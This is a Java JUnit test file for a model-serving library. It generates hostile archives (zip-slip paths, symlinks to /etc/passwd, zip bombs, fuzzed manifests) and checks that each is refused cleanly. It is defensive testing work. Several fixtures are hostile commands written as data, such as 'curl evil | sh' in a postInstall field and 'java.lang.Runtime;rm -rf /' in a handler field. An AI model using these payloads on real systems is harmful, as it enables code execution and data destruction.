package dev.serving4j;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.ObjectMapper;
import dev.serving4j.archive.Zips;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * A generated corpus of malformed and malicious archives: zip-slip, absolute and backslash paths, symlinks, zip
 * bombs by ratio and by entry count, duplicates, truncation, bad digests, and a fuzzed manifest (wrong types,
 * missing fields, huge strings, traversal in file names, NUL bytes, deep nesting, non-UTF-8). Each must be refused
 * with an exception naming the problem, leave nothing outside the extraction directory, and leave no extraction
 * directory behind. In package {@code dev.serving4j} to reach {@code ModelArchive.open(path, limits, parent)}.
 */
class HostileArchiveTest {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final byte[] HELLO = "hello".getBytes(StandardCharsets.UTF_8);
  private static final ArchiveLimits SMALL = new ArchiveLimits(100, 1 << 20, 2 << 20, 10);

  @TempDir Path root;

  /** When the archive must be refused: while it is opened, or when a server registers it. */
  enum Phase { OPEN, REGISTER }

  /** One hostile archive: how to make it, the limits, what must be thrown and what the message must say. */
  record Case(String name, Supplier<byte[]> bytes, ArchiveLimits limits, Phase phase,
      Class<? extends ServingException> expected, List<String> fragments) {
    @Override
    public String toString() {
      return name;
    }
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("corpus")
  void hostileArchiveIsRefusedNamingTheProblemAndLeavesNothingBehind(Case c) throws IOException {
    Path input = Files.createDirectories(root.resolve("input"));
    Path extract = Files.createDirectories(root.resolve("extract"));
    Path archive = Files.write(input.resolve("case.s4j"), c.bytes().get());
    ServingException e = assertThrows(c.expected(), () -> refuse(c, archive, extract), c.name());
    for (String fragment : c.fragments()) {
      assertTrue(e.getMessage().contains(fragment), c.name() + ": message lacks '" + fragment + "': "
          + e.getMessage());
    }
    try (Stream<Path> left = Files.walk(root)) {
      assertEquals(Stream.of(root, input, archive, extract).sorted().toList(), left.sorted().toList(),
          "files were written outside the archive or an extraction directory was left behind");
    }
  }

  private static void refuse(Case c, Path archive, Path extract) {
    if (c.phase() == Phase.OPEN) {
      ModelArchive.open(archive, c.limits(), extract).close();
      return;
    }
    try (ModelArchive opened = ModelArchive.open(archive, c.limits(), extract);
        ModelServer server = ModelServer.builder().handler("echo", Echo::new).build()) {
      server.register(opened);
    }
  }

  /** The one alias the server knows, so only the field under test can fail registration. */
  static final class Echo implements Handler<String, String> {
    @Override
    public Object preprocess(Batch<String> batch) {
      return batch.inputs();
    }

    @Override
    public Object inference(Object preprocessed, Batch<String> batch) {
      return preprocessed;
    }

    @Override
    @SuppressWarnings("unchecked")
    public List<String> postprocess(Object inferred, Batch<String> batch) {
      return (List<String>) inferred;
    }
  }

  static List<Case> corpus() {
    List<Case> cases = new ArrayList<>();
    zipStructure(cases);
    zipLimits(cases);
    manifestShape(cases);
    manifestFields(cases);
    manifestPaths(cases);
    atRegistration(cases);
    return cases;
  }

  private static void zipStructure(List<Case> cases) {
    for (String name : List.of("../evil", "../../evil", "ok/../../evil", "/evil", "/tmp/evil", "..\\evil",
        "dir\\evil", "C:evil", "C:/evil", "./evil", "a//evil", "evil\u0000.txt", "evil\n.txt", "a/./evil",
        "x".repeat(600))) {
      cases.add(open("entry name " + printable(name), () -> Zips.zip(entries(manifest(Map.of()), name, HELLO)),
          "unsafe path"));
    }
    cases.add(open("symlink entry to /etc/passwd", () -> Zips.markSymlink(Zips.archive(Map.of("link",
        "/etc/passwd".getBytes(StandardCharsets.UTF_8)), Map.of()), "link"), "'link'", "symbolic link"));
    cases.add(open("symlink entry to ../..", () -> Zips.markSymlink(Zips.archive(Map.of("model/up",
        "../..".getBytes(StandardCharsets.UTF_8)), Map.of()), "model/up"), "symbolic link"));
    cases.add(open("duplicate file entries", () -> Zips.replaceAll(Zips.zip(entries(manifest(Map.of("dup-a.txt",
        HELLO)), "dup-a.txt", HELLO, "dup-b.txt", HELLO)), "dup-b.txt", "dup-a.txt"), "'dup-a.txt'",
        "more than once"));
    cases.add(open("duplicate manifest entries", () -> Zips.replaceAll(Zips.zip(entries(manifest(Map.of()),
        "MANIFEST.jsoX", manifest(Map.of()))), "MANIFEST.jsoX", "MANIFEST.json"), "more than once"));
    cases.add(open("truncated to half", () -> half(Zips.archive(Map.of("m.bin", Zips.noise(10_000, 1)), Map.of())),
        "truncated"));
    cases.add(open("end record cut off", () -> cut(Zips.archive(Map.of("m.bin", HELLO), Map.of()), 10),
        "truncated"));
    cases.add(open("empty file", () -> new byte[0], "not a zip"));
    cases.add(open("plain text", () -> "just text".getBytes(StandardCharsets.UTF_8), "not a zip"));
    cases.add(open("corrupt deflate data", HostileArchiveTest::corruptData, "'m.bin'"));
    cases.add(open("encrypted entry", () -> patchFlags(Zips.archive(Map.of("m.bin", HELLO), Map.of()), "m.bin",
        1, -1), "'m.bin'", "encrypted"));
    cases.add(open("unknown compression method", () -> patchFlags(Zips.archive(Map.of("m.bin", HELLO), Map.of()),
        "m.bin", 0, 12), "'m.bin'", "compression"));
    cases.add(open("no manifest", () -> Zips.zip(Map.of("m.bin", HELLO)), "MANIFEST.json"));
    cases.add(open("manifest not at the root", () -> Zips.zip(Map.of("sub/MANIFEST.json", manifest(Map.of()))),
        "MANIFEST.json"));
    cases.add(open("unlisted extra file", () -> Zips.archive(Map.of(), Map.of("extra.bin", HELLO)),
        "'extra.bin'"));
    cases.add(open("listed file absent", () -> Zips.zip(Map.of("MANIFEST.json", manifest(Map.of("gone.bin",
        HELLO)))), "'gone.bin'"));
    cases.add(open("file inside a file", () -> Zips.zip(entries(manifest(Map.of("a", HELLO, "a/b", HELLO)), "a",
        HELLO, "a/b", HELLO)), "'a"));
    cases.add(open("bad sha256 (content swapped)", () -> Zips.zip(entries(manifest(Map.of("m.bin", HELLO)),
        "m.bin", "other".getBytes(StandardCharsets.UTF_8))), "'m.bin'", "sha256"));
  }

  private static void zipLimits(List<Case> cases) {
    cases.add(new Case("zip bomb by ratio, default limits", () -> Zips.archive(Map.of("bomb.bin",
        new byte[20 << 20]), Map.of()), ArchiveLimits.DEFAULTS, Phase.OPEN, ArchiveException.class,
        List.of("'bomb.bin'", "maxCompressionRatio (200)")));
    cases.add(new Case("zip bomb by ratio, small limits", () -> Zips.archive(Map.of("bomb.bin",
        new byte[3 << 20]), Map.of()), new ArchiveLimits(100, 8 << 20, 8 << 20, 10), Phase.OPEN,
        ArchiveException.class, List.of("maxCompressionRatio (10)")));
    cases.add(new Case("zip bomb by entry count, default limits", () -> manyEntries(10_001), ArchiveLimits.DEFAULTS,
        Phase.OPEN, ArchiveException.class, List.of("maxEntries (10000)")));
    cases.add(new Case("zip bomb by entry count, small limits", () -> manyEntries(101), SMALL, Phase.OPEN,
        ArchiveException.class, List.of("maxEntries (100)")));
    cases.add(new Case("entry over maxEntryBytes", () -> Zips.archive(Map.of("big.bin", Zips.noise(1_500_000, 2)),
        Map.of()), SMALL, Phase.OPEN, ArchiveException.class, List.of("'big.bin'", "maxEntryBytes")));
    cases.add(new Case("total over maxTotalBytes", () -> Zips.archive(Map.of("a.bin", Zips.noise(900_000, 3),
        "b.bin", Zips.noise(900_000, 4), "c.bin", Zips.noise(900_000, 5)), Map.of()), SMALL, Phase.OPEN,
        ArchiveException.class, List.of("maxTotalBytes")));
    cases.add(open("manifest over 1 MiB", () -> Zips.zip(Map.of("MANIFEST.json", padded(2 << 20))),
        "MANIFEST.json"));
  }

  private static void manifestShape(List<Case> cases) {
    cases.add(raw("manifest not JSON", "this is not json", "not valid JSON"));
    cases.add(raw("manifest a JSON array", "[1, 2, 3]", "JSON object"));
    cases.add(raw("manifest JSON null", "null", "JSON object"));
    cases.add(raw("manifest trailing garbage", new String(manifest(Map.of()), StandardCharsets.UTF_8) + " {}",
        "not valid JSON"));
    cases.add(raw("duplicate JSON key", "{\"manifestVersion\":1,\"manifestVersion\":1}", "manifestVersion"));
    cases.add(raw("deeply nested JSON", "{\"description\":" + "[".repeat(100_000) + "]".repeat(100_000) + "}",
        "not valid JSON"));
    cases.add(open("non-UTF-8 manifest", () -> Zips.zip(Map.of("MANIFEST.json", latin1Manifest())),
        "not valid JSON"));
  }

  private static void manifestFields(List<Case> cases) {
    cases.add(field("manifestVersion 2", m -> m.put("manifestVersion", 2), "manifestVersion"));
    cases.add(field("manifestVersion a string", m -> m.put("manifestVersion", "1"), "manifestVersion"));
    cases.add(field("manifestVersion 1.5", m -> m.put("manifestVersion", 1.5), "manifestVersion"));
    cases.add(field("modelName missing", m -> m.remove("modelName"), "modelName", "required"));
    cases.add(field("modelName a number", m -> m.put("modelName", 7), "modelName", "string"));
    cases.add(field("modelName traversal", m -> m.put("modelName", "../../evil"), "modelName"));
    cases.add(field("modelName 10k characters", m -> m.put("modelName", "m".repeat(10_000)), "modelName"));
    cases.add(field("modelName with NUL", m -> m.put("modelName", "m\u0000x"), "modelName"));
    cases.add(field("modelName empty", m -> m.put("modelName", ""), "modelName"));
    cases.add(field("modelVersion traversal", m -> m.put("modelVersion", "1/../../x"), "modelVersion"));
    cases.add(field("handler missing", m -> m.remove("handler"), "handler", "required"));
    cases.add(field("handler 100k characters", m -> m.put("handler", "h".repeat(100_000)), "handler"));
    cases.add(field("handler with shell characters", m -> m.put("handler", "java.lang.Runtime;rm -rf /"),
        "handler"));
    cases.add(field("handler an object", m -> m.put("handler", Map.of("class", "x")), "handler"));
    cases.add(field("engine traversal", m -> m.put("engine", "../../lib/evil"), "engine"));
    cases.add(field("createdOn missing", m -> m.remove("createdOn"), "createdOn", "required"));
    cases.add(field("createdOn not a date", m -> m.put("createdOn", "yesterday"), "createdOn"));
    cases.add(field("createdOn a number", m -> m.put("createdOn", 1_700_000_000), "createdOn"));
    cases.add(field("description over 10,000 characters", m -> m.put("description", "d".repeat(10_001)),
        "description"));
    cases.add(field("unknown field", m -> m.put("postInstall", "curl evil | sh"), "'postInstall'"));
    cases.add(field("files an array", m -> m.put("files", List.of("a")), "files"));
    cases.add(field("files value a number", m -> m.put("files", Map.of("a", 1)), "files"));
    cases.add(field("sha256 uppercase", m -> m.put("files", Map.of("m.bin", sha256(HELLO).toUpperCase())),
        "m.bin"));
    cases.add(field("sha256 too short", m -> m.put("files", Map.of("m.bin", "abc123")), "m.bin"));
    cases.add(field("config not an object", m -> m.put("config", "fast"), "config"));
    cases.add(field("config wrong type", m -> m.put("config", Map.of("maxBatchSize", "16")),
        "config.maxBatchSize"));
    cases.add(field("config unknown key", m -> m.put("config", Map.of("runAs", "root")), "runAs"));
    cases.add(field("config negative workers", m -> m.put("config", Map.of("workers", -1)), "config", "-1"));
    cases.add(field("config number overflow", m -> m.put("config", Map.of("maxQueueSize",
        new java.math.BigInteger("99999999999999999999999"))), "maxQueueSize"));
    cases.add(field("handlerProperties nested object", m -> m.put("handlerProperties", Map.of("k",
        Map.of("a", "b"))), "handlerProperties"));
    cases.add(field("warmupFiles a string", m -> m.put("warmupFiles", "warmup.txt"), "warmupFiles"));
    cases.add(field("warmupFiles not listed", m -> m.put("warmupFiles", List.of("w.txt")), "w.txt"));
  }

  private static void manifestPaths(List<Case> cases) {
    for (String path : List.of("../evil", "/etc/passwd", "a\\..\\evil", "a/\u0000/b", "C:/evil", "a/../../evil")) {
      cases.add(field("files key " + printable(path), m -> m.put("files", Map.of(path, sha256(HELLO))),
          "unsafe path"));
    }
    cases.add(field("modelFile traversal", m -> m.put("modelFile", "../model.onnx"), "modelFile"));
    cases.add(field("modelFile not listed", m -> m.put("modelFile", "model.onnx"), "modelFile"));
    cases.add(field("warmupFiles traversal", m -> m.put("warmupFiles", List.of("../../warm")), "warmupFiles"));
  }

  private static void atRegistration(List<Case> cases) {
    cases.add(registered("unknown handler alias", m -> m.put("handler", "no-such-handler"), HandlerException.class,
        "'no-such-handler'"));
    cases.add(registered("handler class java.lang.Runtime", m -> m.put("handler", "java.lang.Runtime"),
        HandlerException.class, "'java.lang.Runtime'"));
    cases.add(registered("handler class not on the class path", m -> m.put("handler", "com.evil.Payload"),
        HandlerException.class, "'com.evil.Payload'"));
    cases.add(registered("unknown engine", m -> m.put("engine", "tensorflow"), ServingException.class,
        "engine 'tensorflow'"));
  }

  // ---- case builders -------------------------------------------------------------------------------------------

  private static Case open(String name, Supplier<byte[]> bytes, String... fragments) {
    return new Case(name, bytes, ArchiveLimits.DEFAULTS, Phase.OPEN, ArchiveException.class, List.of(fragments));
  }

  private static Case raw(String name, String manifestText, String... fragments) {
    return open(name, () -> Zips.zip(Map.of("MANIFEST.json", manifestText.getBytes(StandardCharsets.UTF_8))),
        fragments);
  }

  private static Case field(String name, Consumer<Map<String, Object>> change, String... fragments) {
    return open(name, () -> Zips.zip(Map.of("MANIFEST.json", json(change))), fragments);
  }

  private static Case registered(String name, Consumer<Map<String, Object>> change,
      Class<? extends ServingException> expected, String... fragments) {
    return new Case(name, () -> Zips.zip(Map.of("MANIFEST.json", json(change))), ArchiveLimits.DEFAULTS,
        Phase.REGISTER, expected, List.of(fragments));
  }

  // ---- raw material --------------------------------------------------------------------------------------------

  /** A valid manifest listing {@code files}, edited by {@code change}. */
  private static byte[] json(Consumer<Map<String, Object>> change) {
    Map<String, Object> m = baseManifest(Map.of());
    change.accept(m);
    try {
      return JSON.writeValueAsBytes(m);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Map<String, Object> baseManifest(Map<String, byte[]> files) {
    Map<String, String> digests = new LinkedHashMap<>();
    files.forEach((k, v) -> digests.put(k, sha256(v)));
    Map<String, Object> m = new LinkedHashMap<>();
    m.put("manifestVersion", 1);
    m.put("modelName", "m");
    m.put("modelVersion", "1");
    m.put("handler", "echo");
    m.put("files", digests);
    m.put("createdOn", "2025-01-01T00:00:00Z");
    return m;
  }

  private static byte[] manifest(Map<String, byte[]> files) {
    try {
      return JSON.writeValueAsBytes(baseManifest(files));
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static Map<String, byte[]> entries(byte[] manifest, Object... nameThenContent) {
    Map<String, byte[]> entries = new LinkedHashMap<>();
    entries.put("MANIFEST.json", manifest);
    for (int i = 0; i < nameThenContent.length; i += 2) {
      entries.put((String) nameThenContent[i], (byte[]) nameThenContent[i + 1]);
    }
    return entries;
  }

  private static byte[] manyEntries(int count) {
    Map<String, byte[]> entries = new LinkedHashMap<>();
    entries.put("MANIFEST.json", manifest(Map.of()));
    for (int i = 1; i < count; i++) {
      entries.put("e/" + i, new byte[0]);
    }
    return Zips.zip(entries);
  }

  private static byte[] latin1Manifest() {
    String text = new String(manifest(Map.of()), StandardCharsets.UTF_8).replace("\"m\"", "\"m\u00e9\"");
    return text.getBytes(StandardCharsets.ISO_8859_1);
  }

  private static byte[] padded(int size) {
    String base = new String(manifest(Map.of()), StandardCharsets.UTF_8);
    return (base.substring(0, base.length() - 1) + ",\"description\":\"" + "d".repeat(size) + "\"}")
        .getBytes(StandardCharsets.UTF_8);
  }

  private static byte[] half(byte[] zip) {
    return Arrays.copyOf(zip, zip.length / 2);
  }

  private static byte[] cut(byte[] zip, int bytes) {
    return Arrays.copyOf(zip, zip.length - bytes);
  }

  private static byte[] corruptData() {
    byte[] zip = Zips.archive(Map.of("m.bin", Zips.noise(10_000, 3)), Map.of());
    int data = Zips.dataOffset(zip, "m.bin") + 2000;
    for (int i = data; i < data + 64; i++) {
      zip[i] ^= 0x5a;
    }
    return zip;
  }

  /**
   * Sets general-purpose flag bits ({@code orFlags}) and, when {@code method >= 0}, the compression method of entry
   * {@code name}, in both its local header and its central directory record.
   */
  private static byte[] patchFlags(byte[] zip, String name, int orFlags, int method) {
    byte[] out = zip.clone();
    ByteBuffer buf = ByteBuffer.wrap(out).order(ByteOrder.LITTLE_ENDIAN);
    byte[] wanted = name.getBytes(StandardCharsets.UTF_8);
    for (int i = 0; i + 46 <= out.length; i++) {
      int sig = buf.getInt(i);
      int flags = sig == 0x04034b50 ? i + 6 : sig == 0x02014b50 ? i + 8 : -1;
      if (flags < 0) {
        continue;
      }
      int nameAt = sig == 0x04034b50 ? i + 30 : i + 46;
      int nameLength = Short.toUnsignedInt(buf.getShort(sig == 0x04034b50 ? i + 26 : i + 28));
      if (Arrays.equals(out, nameAt, nameAt + nameLength, wanted, 0, wanted.length)) {
        buf.putShort(flags, (short) (buf.getShort(flags) | orFlags));
        if (method >= 0) {
          buf.putShort(flags + 2, (short) method);
        }
      }
    }
    return out;
  }

  private static String sha256(byte[] data) {
    try {
      return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(data));
    } catch (NoSuchAlgorithmException e) {
      throw new IllegalStateException(e);
    }
  }

  private static String printable(String s) {
    String shown = s.length() > 40 ? s.substring(0, 12) + "...(" + s.length() + " chars)" : s;
    return "'" + shown.replace("\u0000", "\\0").replace("\n", "\\n") + "'";
  }
}
